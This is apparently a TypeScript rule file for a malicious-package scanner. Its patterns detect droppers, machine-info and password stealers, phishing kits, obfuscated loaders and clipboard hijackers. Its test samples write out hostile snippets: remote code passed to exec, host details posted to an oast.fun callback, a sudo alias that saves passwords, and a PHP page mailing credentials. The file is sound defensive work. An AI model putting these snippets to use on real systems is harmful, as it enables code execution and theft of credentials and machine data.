import type { ContentRule } from './rule.ts'

/** Where those send to who want to see that somebody came by. */
const CALLBACKS = [
  '.oast.fun',
  '.oast.pro',
  '.oast.live',
  '.oast.site',
  '.oast.online',
  '.oast.me',
  '.oastify.com',
  '.interact.sh',
  'burpcollaborator',
  '.pipedream.net',
  'webhook.site',
  'requestbin.',
  'canarytokens.com',
  '.dnslog.cn',
  '.ngrok.io',
  '.ngrok-free',
  'discord.com/api/webhooks',
  'discordapp.com/api/webhooks',
  'api.telegram.org/bot',
]
const references = ['https://attack.mitre.org/techniques/T1195/002/', 'https://attack.mitre.org/techniques/T1082/']

/** What packages do that were published to harm whoever installs them. */
export const PACKAGES: readonly ContentRule[] = [
  {
    number: 111,
    name: 'Script.Dropper.RunsAnswer',
    title: ['Script that runs as code what a server answers', '将服务器响应作为代码执行的脚本'],
    kind: 'dropper',
    in: ['script'],
    when: {
      any: [
        {
          pattern:
            /\bexec\s{0,2}\(\s{0,2}(?:compile\s{0,2}\(\s{0,2})?_{0,2}(?:requests\b|urllib|u{0,2}urlopen|\w{1,20}\.urlopen|httpx\b|http\.client|__import__\(\s?['"](?:requests|urllib[\w.]{0,12}|httpx)['"])[^\n]{0,240}(?:\.text|\.content|\.read\s{0,2}\()/,
          near: ['requests', 'urllib', 'urlopen', 'httpx'],
        },
        {
          pattern:
            /\b(\w{1,40})\s{0,4}=\s{0,4}(?:requests\.get|(?:urllib\.request\.)?urlopen|httpx\.get)\s{0,2}\([^\n]{0,240}\n(?:[^\n]{0,200}\n){0,4}?[^\n]{0,60}\bexec\s{0,2}\(\s{0,2}\1\b/,
          near: ['requests.get', 'urlopen', 'httpx.get'],
        },
        {
          pattern:
            /(?:require\(\s?['"]https?['"]\s?\)|\bhttps?|\baxios)\.get\s{0,2}\(\s{0,2}['"\x60]https?:[^]{0,400}?(?:\beval\s?\(|\bnew Function\s?\(|\bvm\.run\w{1,20}\s?\()/,
          near: ['https.get(', 'http.get(', 'axios.get(', "http').get(", "https').get(", 'http").get(', 'https").get('],
        },
        {
          all: [
            {
              pattern: /https?['"]?\s?\)?\.get\s{0,2}\([^]{0,400}writeFile(?:Sync)?\s{0,2}\(/,
              near: ['detached: true', 'detached:true', "'ignore'", '"ignore"'],
            },
            {
              pattern: /writeFile(?:Sync)?\s{0,2}\([^]{0,300}\b(?:spawn|exec\w{0,8}|fork)\s{0,2}\(/,
              near: ['detached: true', 'detached:true', "'ignore'", '"ignore"'],
            },
            {
              pattern: /\b(?:spawn|exec\w{0,8}|fork)\s{0,2}\([^]{0,200}(?:detached|['"]ignore['"]|windowsHide)/,
              near: ['detached: true', 'detached:true', "'ignore'", '"ignore"'],
            },
          ],
        },
        {
          pattern: /\beval\s{0,2}\(\s{0,2}(?:URI\.open|Net::HTTP\.get|open)\s{0,2}\(\s{0,2}(?:URI\()?['"]https?:/,
          near: ['URI.open', 'Net::HTTP', 'open('],
        },
        {
          pattern:
            /\bFunction(?:\.constructor)?\s{0,2}\(\s{0,2}['"]require['"]\s{0,2},[^\n;]{0,120}\)\s{0,2}\)?\s{0,2}\(\s{0,2}require\s{0,2}\)/,
          near: ["Function('require'", 'Function("require"', "constructor('require'", 'constructor("require"'],
        },
        {
          all: [
            { pattern: /https?:\/\/(?:\d{1,3}\.){3}\d{1,3}[:/]/, near: ['http://', 'https://'] },
            { any: ['chmodSync', 'fs.chmod'] },
            { any: ['curl ', 'wget ', 'https.get', 'http.get', 'axios', 'fetch(', '.request('] },
            { any: ['spawn(', 'execFile', 'execSync(', 'exec('] },
          ],
        },
        { pattern: /new\s+module\.constructor\b[^]{0,80}\.paths\s?=\s?module\.paths/, near: ['module.constructor'] },
        {
          pattern:
            /\bfetch\s{0,2}\(\s{0,2}['"\x60]https?:[^]{0,200}?\.text\(\)[^]{0,100}?(?:\beval\b|\bnew Function\s?\(|\bvm\.run\w{1,20})/,
          near: ["fetch('http", 'fetch("http', 'fetch(`http'],
        },
      ],
    },
    attack: ['T1105', 'T1059', 'T1195.002'],
    references: ['https://attack.mitre.org/techniques/T1105/', 'https://attack.mitre.org/techniques/T1195/002/'],
    match: ['#!/usr/bin/python3', "exec(requests.get('https://code.example.org/p').text)"],
    harmless: [
      '#!/usr/bin/python3',
      "text = requests.get('https://example.org/p').text",
      "exec(open('setup.cfg').read())",
    ],
  },
  {
    number: 112,
    name: 'Script.Dropper.PowerShell',
    title: ['Script that gives an encoded program to PowerShell', '向 PowerShell 传递编码程序的脚本'],
    kind: 'dropper',
    in: ['script', 'text'],
    severity: 'medium',
    confidence: 'medium',
    when: {
      pattern:
        /powershell(?:\.exe)?["']?[^\n]{0,160}\s["']?-(?:e|ec|en|enc|enco\w{0,12})["',\s]{1,4}[A-Za-z0-9+/=]{40,}/i,
      near: ['powershell'],
    },
    attack: ['T1059.001', 'T1027'],
    references: ['https://attack.mitre.org/techniques/T1059/001/', 'https://attack.mitre.org/techniques/T1027/'],
    match: ['#!/usr/bin/python3', `os.system("powershell -w hidden -EncodedCommand ${'SQBFAFgA'.repeat(8)}")`],
    harmless: ['#!/usr/bin/python3', 'os.system("powershell -NoProfile -Command Get-Date")'],
  },
  {
    number: 127,
    name: 'Stealer.Package.Machine',
    title: ['Script that tells somebody about the machine that it runs on', '外传所在主机信息的脚本'],
    kind: 'stealer',
    in: ['script'],
    severity: 'high',
    when: {
      any: [
        {
          all: [
            { any: CALLBACKS },
            {
              atLeast: 2,
              of: [
                'os.hostname',
                'os.userInfo',
                'homedir()',
                '__dirname',
                'process.env',
                'os.environ',
                'gethostname',
                'getuser()',
                'getlogin',
                'getcwd',
                'platform.',
                'whoami',
                'dns.getServers',
                'networkInterfaces',
                '$(hostname',
                'env|',
                '/etc/passwd',
              ],
            },
            {
              any: [
                '.request(',
                '.post(',
                'fetch(',
                'urlopen',
                'curl ',
                'requests.get',
                'https.get',
                'http.get',
                'dns.',
              ],
            },
          ],
        },
        {
          all: [
            {
              pattern:
                /(?:(?:os\d?\.(?:hostname|userInfo|homedir)\(\)|dns\.getServers\(\)|\b__dirname\b)[^]{0,160}?){2}(?:os\d?\.(?:hostname|userInfo|homedir)\(\)|dns\.getServers\(\)|\b__dirname\b)/,
              near: ['userInfo()', 'dns.getServers', 'os.hostname()'],
            },
            {
              pattern:
                /(?:os\d?\.(?:hostname|userInfo|homedir)\(\)|dns\.getServers\(\)|\b__dirname\b)[^]{0,900}(?:https?\.request|\.post\(|fetch\(|dns\.(?:lookup|resolve))/,
              near: ['userInfo()', 'dns.getServers', 'os.hostname()'],
            },
          ],
        },
        {
          all: [
            {
              pattern:
                /(?:(?:gethostname\(\)|getuser\(\)|getlogin\(\)|getcwd\(\)|os\.environ\b(?!\.|\[)|platform\.\w{1,12}\(\))[^]{0,120}?){2}(?:gethostname\(\)|getuser\(\)|getlogin\(\)|getcwd\(\)|os\.environ\b(?!\.|\[)|platform\.\w{1,12}\(\))/,
              near: ['gethostname()', 'getuser()', 'getlogin()'],
            },
            {
              pattern:
                /(?:gethostname\(\)|getuser\(\)|getlogin\(\)|getcwd\(\)|os\.environ\b(?!\.|\[)|platform\.\w{1,12}\(\))[^]{0,600}(?:requests\.(?:post|get)|urlopen|HTTPS?Connection|gethostbyname)\s{0,2}\(/,
              near: ['gethostname()', 'getuser()', 'getlogin()'],
            },
          ],
        },
      ],
    },
    attack: ['T1195.002', 'T1082', 'T1041'],
    references,
    match: [
      '#!/usr/bin/env node',
      'const d = JSON.stringify({ c: __dirname, n: os.hostname(), u: os.userInfo().username, s: dns.getServers() })',
      "const r = https.request({ hostname: 'x.oast.fun', method: 'POST' }); r.write(d)",
    ],
    harmless: ['#!/usr/bin/env node', 'console.log(os.hostname())', "https.request({ hostname: 'example.org' })"],
  },
  {
    number: 128,
    name: 'Stealer.Passwords.Prompt',
    title: ['Script that stands before a program to keep the password that is typed', '冒充程序以截取输入口令的脚本'],
    kind: 'stealer',
    in: ['script'],
    when: {
      any: [
        {
          pattern:
            /alias\s+(?:sudo|su|ssh|passwd)=[^\n]{0,240}(?:read\s+-\w{0,3}s|strace\s|\bcurl\b|\|\s?nc\s|\/tmp\/)/,
          near: ['alias sudo', 'alias su=', 'alias ssh', 'alias passwd'],
        },
        {
          pattern: /\b(?:sudo|su|ssh|passwd)\s?\(\)\s{0,4}\{[^}]{0,400}read\s+-\w{0,3}s/,
          near: ['sudo()', 'sudo ()', 'ssh()', 'ssh ()', 'su ()', 'passwd()'],
        },
      ],
    },
    attack: ['T1056.003', 'T1546.004'],
    references: ['https://attack.mitre.org/techniques/T1056/003/', 'https://attack.mitre.org/techniques/T1546/004/'],
    match: ['#!/bin/bash', 'alias sudo=\'read -sp "[sudo] password: " p; echo $p >> /var/tmp/.p; /usr/bin/sudo\''],
    harmless: ['#!/bin/bash', "alias sudo='sudo '", "alias ssh='ssh -o ServerAliveInterval=30'"],
  },
  {
    number: 129,
    name: 'Web.Phishing.Kit',
    title: ['Page that mails typed passwords to somebody', '将输入的口令发送给他人的钓鱼页面'],
    kind: 'stealer',
    in: ['script'],
    severity: 'high',
    confidence: 'medium',
    when: {
      all: [
        { any: ['REMOTE_ADDR', 'getenv("', "getenv('", 'HTTP_CLIENT_IP'] },
        {
          pattern:
            /\$_(?:POST|REQUEST)\s?\[\s?['"](?:pass\w{0,8}|pwd|pswd|passwd|pin|otp|cvv2?|card\w{0,10})['"]\s?\][^]{0,1200}(?:\bmail\s{0,2}\(|api\.telegram\.org\/bot)/i,
          near: ['$_POST', '$_REQUEST'],
        },
        { any: ['Location:', 'location.href', 'http-equiv'] },
      ],
    },
    attack: ['T1566.002', 'T1056.003'],
    references: ['https://attack.mitre.org/techniques/T1056/003/', 'https://attack.mitre.org/techniques/T1566/002/'],
    match: [
      '<?php',
      '$ip = getenv("REMOTE_ADDR");',
      '$m = "User: ".$_POST["user"]." Pass: ".$_POST["password"]." IP: ".$ip;',
      'mail("r@example.org", "login", $m); header("Location: https://example.org");',
    ],
    harmless: ['<?php', '$ok = password_verify($_POST["password"], $hash);', 'header("Location: /home");'],
  },
  {
    number: 130,
    name: 'Web.Mailer',
    title: ['Page that mails a text to a list of addresses that visitors give', '按访客提供的地址列表群发邮件的页面'],
    kind: 'tool',
    in: ['script'],
    when: {
      any: [
        {
          all: [
            {
              pattern: /explode\s?\([^\n]{0,40}\$_(?:POST|REQUEST)\s?\[[^]{0,400}\b(?:foreach|for|while)\b/,
              near: ['$_POST', '$_REQUEST'],
            },
            { pattern: /\b(?:foreach|for|while)\b[^]{0,800}\bmail\s{0,2}\(\s{0,2}\$/, near: ['$_POST', '$_REQUEST'] },
          ],
        },
        'Leaf PHPMailer',
        'Leaf PHP Mailer',
      ],
    },
    attack: ['T1583.006', 'T1566'],
    references: ['https://attack.mitre.org/techniques/T1566/'],
    match: [
      '<?php',
      '$list = explode("\\n", $_POST["emails"]);',
      'foreach ($list as $to) { mail($to, $_POST["subject"], $_POST["body"], $h); }',
    ],
    harmless: ['<?php', '$tags = explode(",", $_POST["tags"]);', 'foreach ($tags as $t) { save($t); }'],
  },
]

/** What packages do that hide what they are. */
export const HIDDEN_PACKAGES: readonly ContentRule[] = [
  {
    number: 114,
    name: 'Script.Obfuscated.Node',
    title: ['Script for Node.js whose modules and commands are hidden', '隐藏所加载模块与命令的 Node.js 脚本'],
    kind: 'dropper',
    in: ['script'],
    severity: 'high',
    confidence: 'medium',
    when: {
      all: [
        {
          pattern: /(?:\b_0x[0-9a-f]{2,8}\b[^]{0,200}?){4}/,
          near: ['const _0x', 'function _0x', 'var _0x', 'let _0x', '=_0x', '(_0x'],
        },
        {
          any: [
            { pattern: /\brequire\s?\(\s?_0x[0-9a-f]{2,8}/, near: ['require(_0x', 'require (_0x'] },
            '\\x63\\x68\\x69\\x6c\\x64',
            'Y2hpbGRfcHJvY2Vzcw',
            'curl\\x20',
            'wget\\x20',
            {
              pattern: /require\(['"](?:child_process|dns|https?)['"]\)/,
              near: ["require('child_process", 'require("child_process', "require('http", 'require("http'],
            },
          ],
        },
      ],
    },
    attack: ['T1027', 'T1195.002'],
    references: ['https://attack.mitre.org/techniques/T1027/', 'https://attack.mitre.org/techniques/T1195/002/'],
    match: [
      '#!/usr/bin/env node',
      `const _0x4f=['a'];function _0x1b(_0x2c,_0x3d){return _0x4f[_0x2c-_0x3d]};${'_0x1b(_0x2c,_0x3d);'.repeat(5)}`,
      'require(_0x1b(0x0,0x0))',
    ],
    harmless: ['#!/usr/bin/env node', "const _0x1 = 1; require('fs')", 'let mask = 0x0f'],
  },
  {
    number: 115,
    name: 'Package.QuietInstall',
    title: ['Package that runs a program at its installation and hides what it says', '安装时静默运行程序的软件包'],
    kind: 'dropper',
    in: ['text', 'script'],
    severity: 'medium',
    confidence: 'medium',
    when: {
      pattern:
        /"(?:pre|post)?install"\s{0,4}:\s{0,4}"(?:node|npx|python3?|sh|bash|\.\/)[^"\n]{1,160}(?:&?>\s?\/dev\/null|>\s?nul\b)[^"\n]{0,60}"/i,
      near: ['preinstall"', 'postinstall"', '"install":'],
    },
    attack: ['T1195.002'],
    references: ['https://attack.mitre.org/techniques/T1195/002/'],
    match: ['{ "name": "x",', '"scripts": { "preinstall": "node index.js > /dev/null 2>&1" } }'],
    harmless: ['{ "name": "x",', '"scripts": { "postinstall": "node install.js" } }'],
  },
  {
    number: 131,
    name: 'Stealer.Clipboard',
    title: ['Script that puts its own wallet into the clipboard', '替换剪贴板中钱包地址的脚本'],
    kind: 'stealer',
    in: ['script'],
    severity: 'high',
    when: {
      all: [
        { any: ['clipboardy', 'pyperclip', 'clipboard', 'xclip', 'xsel'] },
        {
          pattern:
            /(?:clipboardy?|pyperclip|xclip|xsel)[^]{0,1500}(?:\[13\]|\(?bc1|0x\[a-fA-F|0x\[A-Fa-f|4\[0-9AB)[^\n]{0,60}\{\d{2}|(?:\[13\]|\(?bc1|0x\[a-fA-F|0x\[A-Fa-f|4\[0-9AB)[^\n]{0,60}\{\d{2}[^]{0,1500}(?:clipboardy?|pyperclip|xclip|xsel)/,
          near: ['[13]', 'bc1', '0x[', '4[0-9'],
        },
        { any: ['setInterval', 'while True', 'while 1', 'while(', 'while true'] },
      ],
    },
    attack: ['T1115', 'T1657'],
    references: ['https://attack.mitre.org/techniques/T1115/'],
    match: [
      '#!/usr/bin/python3',
      'while True:',
      "    if re.match('^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', pyperclip.paste()): pyperclip.copy(WALLET)",
    ],
    harmless: ['#!/usr/bin/python3', 'pyperclip.copy("bc1 is the prefix")', 'while True: pass'],
  },
]
